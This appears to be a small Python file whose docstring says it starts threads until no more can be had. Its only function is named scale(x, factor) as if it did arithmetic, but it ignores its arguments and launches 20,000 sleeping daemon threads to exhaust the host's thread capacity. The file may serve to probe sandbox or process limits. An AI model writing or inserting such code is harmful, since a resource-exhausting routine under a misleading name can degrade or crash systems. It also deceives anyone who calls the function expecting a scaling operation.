"""Starts threads until no more can be had."""

import threading
import time

import numpy as np


def scale(x, factor):
    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
